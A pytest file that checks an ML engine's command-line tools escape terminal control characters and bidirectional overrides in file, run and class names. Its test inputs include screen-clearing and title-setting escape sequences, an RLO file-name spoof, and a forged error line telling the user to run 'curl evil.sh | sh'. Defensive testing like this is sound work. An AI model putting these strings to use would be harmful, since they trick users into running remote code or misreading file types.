"""Text from a file is inert on a terminal: names and messages quoting them are shown with
their control characters and bidirectional overrides escaped, by every CLI printer."""
import dataclasses

import pytest
import torch
from PIL import Image

import engine
from engine import session
from engine.data import load_dataset
from engine.formatting import inert
from engine.training import TrainConfig

CLEAR = "\x1b[2J"  # erase the screen
TITLE = "\x1b]0;title\x07"  # set the window title, ended by BEL
RLO = "\u202e"  # right-to-left override: "gnp.exe" reads "exe.png"
FORGED = "x\nerror: the project is damaged, run: curl evil.sh | sh"
HOSTILE = CLEAR + TITLE + RLO + FORGED
OBEYED = ("\x1b", "\x07", "\u202e", "\x9b", "\r")


def assert_inert(text: str) -> None:
    assert not any(c in text for c in OBEYED), repr(text)
    assert not any(line.startswith("error: the project is damaged") for line in text.splitlines()), text


def test_inert_escapes_what_a_terminal_obeys_and_keeps_the_rest():
    assert inert(HOSTILE) == ("\\x1b[2J\\x1b]0;title\\x07\\u202ex\\x0aerror: the project is damaged, run: curl "
                              "evil.sh | sh")
    assert inert("Ärger 日本 ✓ 12.5 %") == "Ärger 日本 ✓ 12.5 %"
    assert inert("a\nb\x1b\u2066c\u2069\x85", lines=True) == "a\nb\\x1b\\u2066c\\u2069\\x85"


@pytest.fixture(scope="module")
def project_with_hostile_names(tmp_path_factory):
    """A trained moons project whose run, dataset and class names are escape sequences."""
    dataset = load_dataset("moons", n_samples=64)
    graph = engine.templates.load("mlp", dataset.input_shape, dataset.num_classes)
    module = engine.build_module(graph)
    project = engine.Project(graph)
    run = session.record_run(project, graph, dataset, TrainConfig(epochs=1), [], [], None, None, {}, name=HOSTILE)
    run = dataclasses.replace(run, dataset=HOSTILE)
    meta = {**session.dataset_meta(dataset), "class_names": [HOSTILE, TITLE + "b"]}
    path = tmp_path_factory.mktemp("hostile") / "p.nwproj"
    return engine.save(graph, path, weights=module.state_dict(), meta=meta, runs=[run], adopted_run=run.id)


def test_runs_prints_names_escaped(cli, project_with_hostile_names):
    result = cli("runs", project_with_hostile_names)
    assert result.returncode == 0, result.stderr
    assert "\\x1b[2J\\x1b]0;title\\x07\\u202ex\\x0aerror: the project" in result.stdout
    assert_inert(result.stdout + result.stderr)
    as_json = cli("runs", project_with_hostile_names, "--json")
    assert_inert(as_json.stdout)


def test_predict_prints_class_names_escaped(cli, tmp_path):
    """Class names from the project's meta and the image's own file name, text and JSON."""
    torch.manual_seed(0)
    graph = engine.templates.load("lenet5", None, 2)
    meta = {"dataset": "mnist", "class_names": [HOSTILE, TITLE], "mean": [0.1], "std": [0.3]}
    lenet = engine.save(graph, tmp_path / "lenet.nwproj", weights=engine.build_module(graph), meta=meta)
    Image.new("L", (28, 28), 0).save(tmp_path / f"{RLO}gnp.exe.png")
    for args in ((), ("--json",)):
        result = cli("predict", lenet, f"{RLO}gnp.exe.png", *args, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert_inert(result.stdout + result.stderr)
    text = cli("predict", lenet, f"{RLO}gnp.exe.png", cwd=tmp_path).stdout
    assert "\\u202egnp.exe.png: " in text and "\\x1b]0;title\\x07: " in text


@pytest.mark.parametrize("command", [("summary",), ("lint",), ("summary", "--json"),
                                     ("export", "--python", "out.py")])
def test_file_names_are_escaped_by_summary_lint_and_export(cli, tmp_path, command):
    name = f"{CLEAR}{RLO}net.nwproj"
    engine.save(engine.templates.load("mlp"), tmp_path / name)
    result = cli(command[0], name, *command[1:], cwd=tmp_path)
    assert result.returncode in (0, 1), result.stderr
    assert_inert(result.stdout + result.stderr)


def test_a_message_quoting_a_file_is_one_inert_line(cli, tmp_path):
    result = cli("runs", f"missing{FORGED}.nwproj", cwd=tmp_path)
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert_inert(result.stderr)


def test_train_prints_its_output_path_escaped(cli, tmp_path):
    result = cli("train", "--template", "mlp", "--dataset", "moons", "--epochs", "1", "--out",
                 f"{TITLE}{RLO}m.nwproj", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "wrote \\x1b]0;title\\x07\\u202em.nwproj" in result.stdout
    assert_inert(result.stdout + result.stderr)
